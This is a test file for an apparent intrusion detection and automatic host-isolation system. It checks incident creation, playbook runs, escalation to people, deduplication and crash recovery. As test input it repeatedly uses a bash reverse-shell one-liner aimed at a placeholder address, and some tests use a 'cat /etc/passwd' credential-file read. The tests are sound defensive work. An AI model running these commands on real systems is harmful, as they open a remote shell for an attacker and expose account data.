import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { FakeClock } from '@firebreak/shared/clock.fake.ts'
import type { IncidentId } from '@firebreak/shared/ids.ts'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { StateStore } from './store/state/state-store.ts'
import { SHIPPED_PLAYBOOKS } from './respond/playbook-files.ts'
import { processEvent, Rig, type RigOptions, Site } from './deciding.fixture.ts'

const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'

let site: Site
let clock: FakeClock
let rig: Rig | undefined

beforeEach(() => {
  site = new Site()
  clock = new FakeClock()
})
afterEach(async () => {
  await rig?.stop()
  rig = undefined
  site.forget()
})

async function open(options: RigOptions = {}): Promise<Rig> {
  rig = await Rig.open(site, clock, options)
  return rig
}
async function started(options: RigOptions = {}): Promise<Rig> {
  const opened = await open(options)
  await opened.start()
  return opened
}
const incidents = (rig: Rig) => rig.store.db.selectFrom('incidents').selectAll().orderBy('created_at').execute()
const commands = (rig: Rig) => rig.store.db.selectFrom('commands').selectAll().execute()
const steps = async (rig: Rig) =>
  (await rig.store.db.selectFrom('run_steps').selectAll().orderBy('n').execute()).map((row) => [row.step_id, row.state])

describe('from an event to an order', () => {
  it('orders the isolation of a host on which a reverse shell starts, and marks the incident contained once it is proved', async () => {
    const rig = await started()
    const host = await rig.host('web-1')
    await rig.commit(host, [processEvent(clock, 'ls'), processEvent(clock, SHELL)])
    await rig.settle()

    const [incident] = await incidents(rig)
    expect(incident).toMatchObject({
      title: 'Reverse Shell Over Bash on web-1',
      severity: 'critical',
      decision: 'act',
      route: 'act',
      status: 'open',
      techniques: '["T1059.004"]',
    })
    expect(incident?.confidence).toBeGreaterThanOrEqual(85)
    expect(await commands(rig)).toMatchObject([
      {
        agent_id: host,
        type: 'isolate-host',
        args: expect.stringContaining('"hold_s":14400,"on_controller_loss":"release"'),
        actor: 'playbook:contain-host',
        incident_id: incident?.id,
      },
    ])
    expect(await rig.run()).toMatchObject({ state: 'waiting', playbook_id: 'contain-host', agent_id: host })

    await rig.become('verified')
    await rig.settle()
    expect(await rig.run()).toMatchObject({ state: 'succeeded' })
    expect((await incidents(rig))[0]).toMatchObject({ status: 'contained', route: 'act' })
    expect(await steps(rig)).toEqual([
      ['has-an-agent', 'succeeded'],
      ['not-protected', 'succeeded'],
      ['not-last-of-its-kind', 'succeeded'],
      ['within-budget', 'succeeded'],
      ['isolate', 'succeeded'],
      ['contained', 'succeeded'],
    ])
    expect(await rig.audit.verify()).toMatchObject({ ok: true })
  })

  it('never cuts off a protected host: the run is refused and a person is asked, with the reason', async () => {
    const rig = await started()
    await rig.commit(await rig.host('dc-1', { protected: true }), [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await commands(rig)).toEqual([])
    expect(await rig.run()).toMatchObject({ state: 'refused' })
    expect((await incidents(rig))[0]).toMatchObject({ decision: 'act', route: 'ask', status: 'open' })
    expect((await incidents(rig))[0]?.escalated_why).toContain('dc-1: the host is protected')
  })

  it('asks a person about a rule of medium level, however often it matches', async () => {
    const rig = await started()
    const host = await rig.host('web-1')
    for (let i = 0; i < 20; i++) {
      await rig.commit(host, [processEvent(clock, 'cat /etc/passwd')])
      await clock.advance(1000)
    }
    await rig.settle()
    expect(await incidents(rig)).toMatchObject([{ severity: 'medium', route: 'ask' }])
    expect(await commands(rig)).toEqual([])
    expect(await rig.run()).toBeUndefined()
  })

  it('makes one alert, one incident and one order of the same thing seen again', async () => {
    const rig = await started()
    const host = await rig.host('web-1')
    for (let i = 0; i < 5; i++) {
      await rig.commit(host, [processEvent(clock, SHELL), processEvent(clock, SHELL)])
      await rig.settle()
    }
    expect(await rig.store.db.selectFrom('alerts').select('signal_count').execute()).toEqual([{ signal_count: 10 }])
    expect(await incidents(rig)).toHaveLength(1)
    expect(await commands(rig)).toHaveLength(1)
  })

  it('asks a person when the isolation is refuted, and does not say contained', async () => {
    const rig = await started()
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    await rig.become('refuted', 'effect_refuted')
    await rig.settle()
    expect(await rig.run()).toMatchObject({ state: 'failed' })
    const [incident] = await incidents(rig)
    expect(incident).toMatchObject({ status: 'open', route: 'ask' })
    expect(incident?.escalated_why).toContain('isolate-host ended refuted (effect_refuted)')
  })

  it('calls an incident contained only when every host of it is', async () => {
    const rig = await started()
    for (const name of ['web-1', 'web-2']) await rig.commit(await rig.host(name), [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await incidents(rig)).toMatchObject([{ title: 'Reverse Shell Over Bash on web-1 and 1 more host' }])
    const [first] = await commands(rig)
    await rig.store.write((tx) =>
      tx.updateTable('commands').set({ state: 'verified' }).where('id', '=', String(first?.id)).execute(),
    )
    await clock.advance(31_000)
    await rig.settle()
    expect(await incidents(rig)).toMatchObject([{ status: 'open' }])
    await rig.become('verified')
    await rig.settle()
    expect(await incidents(rig)).toMatchObject([{ status: 'contained' }])
  })

  it('stops at the hourly budget and hands the rest to a person', async () => {
    const rig = await started({
      respond: { budgets_per_hour: { 'isolate-host': 2, 'release-host': 0, 'kill-process': 0 } },
    })
    for (const name of ['a', 'b', 'c', 'd']) await rig.commit(await rig.host(name), [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await commands(rig)).toHaveLength(2)
    expect((await incidents(rig))[0]?.escalated_why).toContain(
      '2 of 2 automatic isolate-host within an hour are used up',
    )
  })

  it('does not take the last connected host of a role away', async () => {
    const rig = await started()
    const only = await rig.host('db-1', { tags: ['role:db'] })
    await rig.host('db-2', { tags: ['role:db'], connected: false })
    await rig.commit(only, [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await commands(rig)).toEqual([])
    expect((await incidents(rig))[0]?.escalated_why).toContain('no other connected host does the work of this one')
  })

  it('says that an incident is not contained any more when the isolation has lapsed, and asks a person', async () => {
    const rig = await started()
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    await rig.become('verified')
    await rig.settle()
    await rig.become('reverted', 'lapsed', 'verified')
    await rig.settle()
    expect(await incidents(rig)).toMatchObject([
      {
        status: 'open',
        route: 'ask',
        escalated_why: expect.stringContaining('web-1: isolate-host is reverted (lapsed)'),
      },
    ])
    expect(await commands(rig)).toHaveLength(1)
  })

  it('acts on a reverse shell with the rules that ship, also on a host of its own', async () => {
    const rig = await started({ ruleDirs: [] })
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL, { tty: '/dev/pts/0' })])
    await rig.settle()
    expect(await incidents(rig)).toMatchObject([{ route: 'act' }])
    expect(await commands(rig)).toMatchObject([{ type: 'isolate-host', state: 'queued' }])
  })

  it('tells a person when something on an isolated host works against its isolation, and does not isolate it over again', async () => {
    const rig = await started({ ruleDirs: [] })
    const host = await rig.host('web-1')
    const containment = JSON.stringify({ phase: 'isolated', drift_count: 1 })
    await rig.store.write((tx) => tx.updateTable('hosts').set({ containment }).where('agent_id', '=', host).execute())
    await rig.commit(host, [
      {
        '@timestamp': new Date(clock.now()).toISOString(),
        event: {
          kind: 'alert',
          category: ['intrusion_detection'],
          type: ['change'],
          action: 'isolation-drift',
          dataset: 'firebreak.containment',
        },
        firebreak: { containment: { gap_ms: 120 } },
      },
    ])
    await rig.settle()
    expect(await rig.store.db.selectFrom('signals').select(['detector', 'level']).execute()).toEqual([
      { detector: 'agent', level: 'critical' },
    ])
    expect(await incidents(rig)).toMatchObject([{ decision: 'act', route: 'ask' }])
    expect(await commands(rig)).toEqual([])
  })

  it('does not cut off again a host that a person has released, until something new is seen on it', async () => {
    const rig = await started()
    const host = await rig.host('web-1')
    const isolated = (phase: string) =>
      rig.store.write((tx) =>
        tx
          .updateTable('hosts')
          .set({ containment: JSON.stringify({ phase }) })
          .where('agent_id', '=', host)
          .execute(),
      )
    await isolated('isolated')
    await rig.commit(host, [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await commands(rig)).toEqual([])
    await clock.advance(60_000)
    const person = { kind: 'user', name: 'kim', role: 'admin' } as const
    const release = await rig.orders.propose(
      { agentId: host, type: 'release-host', args: {}, reason: 'checked' },
      person,
    )
    if (!release.ok) throw new Error(release.why)
    await rig.store.write((tx) =>
      tx.updateTable('commands').set({ state: 'verified' }).where('id', '=', release.value.id).execute(),
    )
    await isolated('none')
    const [incident] = await incidents(rig)
    rig.bus.publish('incident.changed', { incidentId: incident?.id as IncidentId })
    await rig.settle()
    expect(await commands(rig)).toMatchObject([{ type: 'release-host' }])
    await clock.advance(60_000)
    await rig.commit(host, [processEvent(clock, SHELL, { pid: 4_242, entity_id: 'another' })])
    await rig.settle()
    expect((await commands(rig)).map(({ type }) => type).sort()).toEqual(['isolate-host', 'release-host'])
  })

  it('looks at every host of an incident of many, a hundred at a time', async () => {
    const budgets = { 'isolate-host': 1_000, 'release-host': 0, 'kill-process': 0 }
    const rig = await started({ respond: { budgets_per_hour: budgets } })
    const hosts = await Promise.all(Array.from({ length: 220 }, (_, index) => rig.host(`h${index}`)))
    await Promise.all(hosts.map((host) => rig.commit(host, [processEvent(clock, SHELL)])))
    await rig.settle()
    expect(await incidents(rig)).toHaveLength(1)
    expect(new Set((await commands(rig)).map((command) => command.agent_id)).size).toBe(220)
  }, 60_000)

  it('hands an incident to a person when playbooks are switched off', async () => {
    const rig = await started({ respond: { automatic: false } })
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await commands(rig)).toEqual([])
    expect(await incidents(rig)).toMatchObject([{ route: 'ask', escalated_why: 'automatic response is switched off' }])
  })

  it('takes a storm of 10,000 signals of one rule as one alert, one incident, one run', async () => {
    const rig = await started()
    const host = await rig.host('web-1')
    for (let batch = 0; batch < 20; batch++) {
      const events = Array.from({ length: 500 }, (_, index) =>
        processEvent(clock, `${SHELL} # ${batch * 500 + index}`, { entity_id: `boot-${batch}-${index}` }),
      )
      await rig.commit(host, events)
    }
    await rig.settle()
    expect(await rig.store.db.selectFrom('alerts').select('signal_count').execute()).toEqual([{ signal_count: 10_000 }])
    expect(await incidents(rig)).toHaveLength(1)
    expect(await commands(rig)).toHaveLength(1)
    expect(await rig.store.db.selectFrom('runs').select('id').execute()).toHaveLength(1)
  }, 60_000)
})

describe('a run', () => {
  it('is not started again for a host whose incident was merged into another', async () => {
    const rig = await started()
    const shell = (address: string) => processEvent(clock, `bash -i >& /dev/tcp/${address}/4444 0>&1`)
    const a = await rig.host('web-1')
    const b = await rig.host('web-2')
    await rig.commit(a, [shell('203.0.113.1')])
    await rig.commit(b, [shell('203.0.113.2')])
    await rig.settle()
    expect(await commands(rig)).toHaveLength(2)
    await rig.commit(a, [processEvent(clock, 'cat /etc/passwd # 203.0.113.2')])
    await rig.settle()
    expect((await incidents(rig)).filter((incident) => incident.merged_into === null)).toHaveLength(1)
    expect(await commands(rig)).toHaveLength(2)
    await rig.become('verified')
    await rig.settle()
    expect((await incidents(rig)).find((incident) => incident.merged_into === null)).toMatchObject({
      status: 'contained',
    })
  })

  it('goes by the text that it started with, also when the file has changed since', async () => {
    const dir = mkdtempSync(join(site.dir, 'playbooks-'))
    const text = readFileSync(join(SHIPPED_PLAYBOOKS, 'contain-host.yml'), 'utf8')
    writeFileSync(join(dir, 'a.yml'), text)
    const rig = await started({ respond: { playbook_dirs: [dir] } })
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    writeFileSync(join(dir, 'a.yml'), text.replace('- id: contained', '- id: another'))
    expect(await rig.respond.reloadPlaybooks()).toMatchObject({ ready: true, live: 1 })
    await rig.become('verified')
    await rig.settle()
    expect((await steps(rig)).at(-1)).toEqual(['contained', 'succeeded'])
  })

  it('of the playbooks before goes on when a new file cannot be used', async () => {
    const dir = mkdtempSync(join(site.dir, 'playbooks-'))
    writeFileSync(join(dir, 'a.yml'), readFileSync(join(SHIPPED_PLAYBOOKS, 'contain-host.yml')))
    const rig = await started({ respond: { playbook_dirs: [dir] } })
    writeFileSync(join(dir, 'a.yml'), 'id: contain-host')
    expect(await rig.respond.reloadPlaybooks()).toMatchObject({
      ready: true,
      live: 1,
      why: expect.stringContaining('stay in force'),
    })
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await commands(rig)).toHaveLength(1)
  })

  it('ends and asks a person when its command comes to no end in time', async () => {
    const rig = await started({ respond: { rescan_ms: 3_600_000 } })
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    // Four hours for the host to come, a minute for the command, two of grace, and the next look at what waits.
    await clock.advance((14_400 + 60 + 120) * 1000 + 3_600_000)
    await rig.settle()
    expect(await rig.run()).toMatchObject({ state: 'failed' })
    expect((await incidents(rig))[0]?.escalated_why).toContain('whether it took effect is unknown')
  })

  it('begins nothing new for an incident that a person has closed', async () => {
    const rig = await started()
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    const [incident] = await incidents(rig)
    await rig.triage.setVerdict({ kind: 'incident', id: String(incident?.id) }, 'false_positive', 'user:ann', 'a drill')
    await rig.become('verified')
    await rig.settle()
    expect(await rig.run()).toMatchObject({ state: 'cancelled', why: 'the incident was closed' })
    expect((await incidents(rig))[0]).toMatchObject({ status: 'closed' })
  })

  it('does not answer to an incident that no playbook covers: a person is asked', async () => {
    const dir = mkdtempSync(join(site.dir, 'playbooks-'))
    const text = readFileSync(join(SHIPPED_PLAYBOOKS, 'contain-host.yml'), 'utf8')
    writeFileSync(join(dir, 'a.yml'), text.replace('incident.confidence >= 85.0', 'incident.confidence >= 99.9'))
    const rig = await started({ respond: { playbook_dirs: [dir] } })
    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
    await rig.settle()
    expect(await incidents(rig)).toMatchObject([
      { route: 'ask', escalated_why: 'no playbook answers to this incident' },
    ])
  })
})

/** A process that dies at its n-th commit: before it is durable, or right after. Nothing is written any more. */
function dyingStore(store: StateStore, at: number, when: 'before' | 'after', died: () => void): StateStore {
  let commits = 0
  let dead = false
  return {
    db: store.db,
    healthy: () => !dead,
    close: () => store.close(),
    async write(work) {
      if (dead) return await new Promise<never>(() => undefined)
      commits++
      if (commits < at) return await store.write(work)
      dead = true
      if (when === 'after') await store.write(work)
      died()
      return await new Promise<never>(() => undefined)
    },
  }
}

describe('a controller that dies', () => {
  it('at any commit between the event and the end of the run orders exactly one isolation and completes the run', async () => {
    let tried = 0
    for (const when of ['before', 'after'] as const) {
      for (let at = 1; at <= 40; at++) {
        const place = new Site()
        try {
          const first = await Rig.open(place, clock)
          const host = await first.host('web-1')
          await first.store.close()
          const died = Promise.withResolvers<'died'>()
          const doomed = await Rig.open(place, clock, {
            wrapStore: (store) => dyingStore(store, at, when, () => died.resolve('died')),
          })
          await doomed.start()
          await doomed.commit(host, [processEvent(clock, SHELL)])
          const story = (async () => {
            await doomed.settle()
            await doomed.become('verified')
            await doomed.settle()
            return 'lived' as const
          })()
          const end = await Promise.race([story, died.promise])
          if (end === 'lived') {
            await doomed.stop()
            break
          }
          tried++
          await doomed.store.close()

          const second = await Rig.open(place, clock)
          await second.start()
          await second.settle()
          await second.become('verified')
          await second.settle()
          const label = `${when} commit ${at}`
          expect(await commands(second), label).toHaveLength(1)
          expect(await second.run(), label).toMatchObject({ state: 'succeeded' })
          expect(await incidents(second), label).toMatchObject([{ status: 'contained' }])
          expect(await second.store.db.selectFrom('signals').select('id').execute(), label).toHaveLength(1)
          expect(await second.audit.verify(), label).toMatchObject({ ok: true })
          await second.stop()
        } finally {
          place.forget()
        }
      }
    }
    // Detection, start of the run, guards and budget, order, waiting, command, end: each before and after.
    expect(tried).toBeGreaterThanOrEqual(12)
  }, 120_000)
})
